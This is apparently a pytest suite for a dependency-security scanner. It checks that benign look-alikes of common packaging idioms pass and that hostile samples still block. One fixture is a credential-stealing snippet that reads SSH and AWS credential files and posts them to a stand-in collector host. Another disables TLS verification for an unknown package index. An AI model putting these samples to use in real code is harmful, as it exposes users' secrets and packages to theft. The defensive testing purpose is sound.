"""Claims of intent need the intent (issue 29, principle 6), end to end: the shipped rules, every
scanner and derived reading, and the default policy over a real repository whose series adds
benign files written in the shapes of real popular sdists (rewritten here, not copied) next to
hostile ones that must still block.

- a credential file's *name* (a lexer's file-name table, an HTTP client's netrc names, a test's
  own ``.netrc`` beside it) is no credential read; its path under the home folder, opened, is;
- ``--trusted-host`` for the default index's own hosts names no new insecure index (reviewed);
  a host a Python name holds is reviewed; any other host blocks;
- a ``prompt`` parameter a CLI library's input function shows its own user on the terminal is
  no request's prompt;
- an installer's ``--index-url`` argv item whose value the file takes from its configuration
  (``index_url = None`` / ``opts["index_url"][1]``) is a variable, not the "hosts" None/opts.

One scan of the series (the module shares it); the pure parts (pkgconfig, sources) without it."""

from __future__ import annotations

import pytest
from scancase import scan_series

from auditor.model import Action, Finding, StageResult
from auditor.scan import pkgconfig
from auditor.scan.sources import FROM_VARIABLE, NEW, SourceJudge

# ---------------------------------------------------------------- benign twins of real idioms

LEXER = '''\
from pygments.lexer import RegexLexer


class KeyFileLexer(RegexLexer):
    name = "ASCII armored"
    aliases = ["asc", "pem"]
    filenames = ["*.asc", "*.pem", "id_dsa", "id_ecdsa", "id_ecdsa_sk", "id_ed25519", "id_rsa"]
'''

NETRC_NAMES = '''\
import os

NETRC_FILES = (".netrc", "_netrc")


def netrc_location():
    explicit = os.environ.get("NETRC")
    return explicit if explicit is not None else None
'''

NETRC_TEST = '''\
from pathlib import Path

FIXTURES = Path(__file__).parent / "fixtures"


def test_netrc_auth(tmp_path, client_factory):
    netrc_path = tmp_path / ".netrc"
    netrc_path.write_text("machine example.org login user password pass")
    other = str(FIXTURES / ".netrc")
    with open(other) as fh:
        assert "machine" in fh.read()
    assert client_factory(netrc_path).auth is not None
'''

INSTALLER = '''\
import subprocess
import sys


def child_install(finder, requirements, prefix):
    args = [sys.executable, "-m", "pip", "install", "--prefix", prefix, "--no-warn-script-location"]
    for host in finder.trusted_hosts:
        args.extend(["--trusted-host", host])
    args.extend(requirements)
    subprocess.check_call(args)


def make_options(option):
    return [option("--trusted-host",
                   dest="trusted_hosts",
                   action="append",
                   metavar="HOSTNAME",
                   default=[])]


def fetch_build_egg(opts, req, tmpdir):
    if "index_url" in opts:
        index_url = opts["index_url"][1]
    else:
        index_url = None
    cmd = [sys.executable, "-m", "pip", "wheel", "--no-deps", "-w", tmpdir]
    if index_url is not None:
        cmd.extend(("--index-url", index_url))
    cmd.append(str(req))
    subprocess.check_call(cmd)
'''

MAKEFILE = '''\
PYTHON = python3
PIP_INSTALL_ARGS = --trusted-host files.pythonhosted.org --trusted-host pypi.org --upgrade

install-deps:
\t$(PYTHON) -m pip install --user --upgrade --trusted-host files.pythonhosted.org sphinx
'''

TERMINAL = '''\
import sys


def make_input_functions(typed_lines):
    def visible_input(prompt=None):
        sys.stdout.write(prompt or "")
        try:
            answer = next(typed_lines).rstrip("\\r\\n")
        except StopIteration as e:
            raise EOFError() from e
        sys.stdout.write(f"{answer}\\n")
        return answer

    def hidden_input(prompt=None):
        sys.stdout.write(f"{prompt or ''}\\n")
        sys.stdout.flush()
        return next(typed_lines).rstrip("\\r\\n")

    return visible_input, hidden_input
'''

BENIGN = {"ok/lexers.py": LEXER, "ok/netrc_names.py": NETRC_NAMES,
          "ok/tests/test_netrc.py": NETRC_TEST, "ok/installer.py": INSTALLER,
          "ok/Makefile": MAKEFILE, "ok/terminal.py": TERMINAL}

# ---------------------------------------------------------------- hostile: still blocked

STEAL = '''\
import os
from pathlib import Path

import requests


def collect():
    home = os.path.expanduser("~")
    key = os.path.join(home, ".ssh", "id_ed25519")
    with open(key, "rb") as fh:
        data = fh.read()
    aws = (Path.home() / ".aws" / "credentials").read_text()
    requests.post("https://collector.example.net/k", data={"k": data, "a": aws})
'''

TLS = '''\
#!/bin/sh
export PIP_TRUSTED_HOST="pypi.org wheels.sm86.example"
pip install --trusted-host pypi.org --trusted-host wheels.sm86.example sm86-kernels
'''

PROMPTS = '''\
import logging
import sys

logger = logging.getLogger(__name__)


def log_inputs(request_id, prompt, params):
    logger.info("Received request %s: prompt: %r, params: %s", request_id, prompt, params)


def echo(prompt):
    sys.stdout.write(prompt)
'''

HOSTILE = {"engine/steal.py": STEAL, "scripts/tls.sh": TLS, "engine/prompts.py": PROMPTS}


@pytest.fixture(scope="module")
def result(tmp_path_factory: pytest.TempPathFactory) -> StageResult:
    run = scan_series(tmp_path_factory.mktemp("intent"), [
        ("benign twins", BENIGN), ("helpers", HOSTILE)])
    return run.result


def _at(result: StageResult, path: str) -> list[Finding]:
    return [f for f in result.findings if f.path == path]


def _line(text: str, needle: str) -> int:
    return next(n for n, ln in enumerate(text.split("\n"), 1) if needle in ln)


@pytest.mark.parametrize("path", sorted(BENIGN))
def test_benign_twins_block_nothing(result: StageResult, path: str) -> None:
    blocks = [(f.rule, f.line) for f in _at(result, path) if f.action is Action.BLOCK]
    assert blocks == []


def test_no_intent_claim_on_names_never_opened(result: StageResult) -> None:
    for path in ("ok/lexers.py", "ok/netrc_names.py", "ok/tests/test_netrc.py"):
        assert [f for f in _at(result, path) if f.rule.startswith("secret-access.")] == []


def test_trusted_default_hosts_and_forwarded_hosts_are_reviewed(result: StageResult) -> None:
    # at the argv item, and at the call (its command-line reading's ${PY_VALUE})
    got = {(f.rule, f.line, f.action) for f in _at(result, "ok/installer.py")
           if "tls-off" in f.rule}
    assert got == {("dependency.shell.index-tls-off-from-variable", line, Action.REVIEW)
                   for line in (_line(INSTALLER, '"--trusted-host", host'),
                                _line(INSTALLER, "subprocess.check_call(args)"))}
    make = {(f.rule, f.action) for f in _at(result, "ok/Makefile") if "tls-off" in f.rule}
    assert make == {("dependency.shell.default-index-tls-off", Action.REVIEW)}


def test_an_installers_configured_index_is_a_variable(result: StageResult) -> None:
    src = {(f.rule, f.line, f.action) for f in _at(result, "ok/installer.py")
           if ".package-source" in f.rule}
    assert src == {("dependency.shell.package-source.from-variable", line, Action.REVIEW)
                   for line in (_line(INSTALLER, '"--index-url"'),
                                _line(INSTALLER, "subprocess.check_call(cmd)"))}


def test_a_terminal_question_is_no_prompt_logging(result: StageResult) -> None:
    assert [f for f in _at(result, "ok/terminal.py") if f.category.value == "prompt-logging"] \
        == []


def test_hostile_credential_reads_still_block(result: StageResult) -> None:
    got = {(f.rule, f.line) for f in _at(result, "engine/steal.py")
           if f.action is Action.BLOCK}
    assert ("secret-access.python.credential-file", _line(STEAL, "with open(key")) in got
    assert ("secret-access.python.credential-file", _line(STEAL, "read_text()")) in got


def test_hostile_trusted_hosts_still_block(result: StageResult) -> None:
    got = {(f.rule, f.line) for f in _at(result, "scripts/tls.sh") if f.action is Action.BLOCK}
    assert got >= {("dependency.shell.index-tls-off", 2), ("dependency.shell.index-tls-off", 3)}


def test_request_prompts_still_block(result: StageResult) -> None:
    got = {(f.rule, f.line) for f in _at(result, "engine/prompts.py")
           if f.action is Action.BLOCK}
    assert got == {("prompt-logging.python.request-content-logged", _line(PROMPTS, "Received")),
                   ("prompt-logging.python.request-content-logged",
                    _line(PROMPTS, "sys.stdout.write(prompt)"))}


# ---------------------------------------------------------------- the pure parts

@pytest.mark.parametrize("path, text, want", [
    ("requirements.txt", "--trusted-host pypi.org\nvllm==0.10.0\n",
     [(1, pkgconfig.DEFAULT_TLS_RULE)]),
    ("requirements.txt", "--trusted-host wheels.sm86.example\n", [(1, pkgconfig.TLS_RULE)]),
    ("etc/pip.conf", "[global]\ntrusted-host = pypi.org files.pythonhosted.org\n",
     [(2, pkgconfig.DEFAULT_TLS_RULE)]),
    ("etc/pip.conf", "[global]\ntrusted-host = pypi.org\n    wheels.sm86.example\n",
     [(2, pkgconfig.DEFAULT_TLS_RULE), (3, pkgconfig.TLS_RULE)]),
    ("etc/pip.conf", "[global]\ntrusted-host = pypi.org.wheels.example\n",
     [(2, pkgconfig.TLS_RULE)]),
    ("uv.toml", 'allow-insecure-host = ["files.pythonhosted.org"]\n',
     [(1, pkgconfig.DEFAULT_TLS_RULE)]),
    # a multi-line array's items are hosts too (they were not reported at all before)
    ("uv.toml", 'allow-insecure-host = [\n  "pypi.org",\n  "wheels.sm86.example",\n]\n',
     [(2, pkgconfig.DEFAULT_TLS_RULE), (3, pkgconfig.TLS_RULE)]),
    ("uv.toml", 'allow-insecure-host = [\n  "wheels.sm86.example"]\n', [(2, pkgconfig.TLS_RULE)]),
    (".env", 'PIP_TRUSTED_HOST="pypi.org files.pythonhosted.org"\n',
     [(1, pkgconfig.DEFAULT_TLS_RULE)]),
    (".env", 'PIP_TRUSTED_HOST="pypi.org wheels.sm86.example"\n', [(1, pkgconfig.TLS_RULE)]),
])
def test_config_files_trusting_only_the_default_index_are_reviewed(
        path: str, text: str, want: list[tuple[int, str]]) -> None:
    kind = pkgconfig.kind_of(path)
    assert kind is not None
    got = [(f.line, f.rule) for f in pkgconfig.config_findings(kind, text.splitlines())
           if "tls-off" in f.rule]
    assert got == want


@pytest.mark.parametrize("assignment, suffix", [
    ('index_url = None\n', FROM_VARIABLE),
    ('index_url = opts["index_url"][1]\n', FROM_VARIABLE),
    ('index_url = args.index_url\n', FROM_VARIABLE),
    ('index_url = "https://wheels.sm86.example/simple"\n', NEW),
])
def test_a_python_expression_is_no_package_host(assignment: str, suffix: str) -> None:
    text = assignment + 'cmd.extend(("--index-url", index_url))\n'
    verdict = SourceJudge(()).judge(text.split("\n")[1], text)
    assert verdict.suffix == suffix, verdict
    assert "None" not in verdict.message and "opts" not in verdict.message
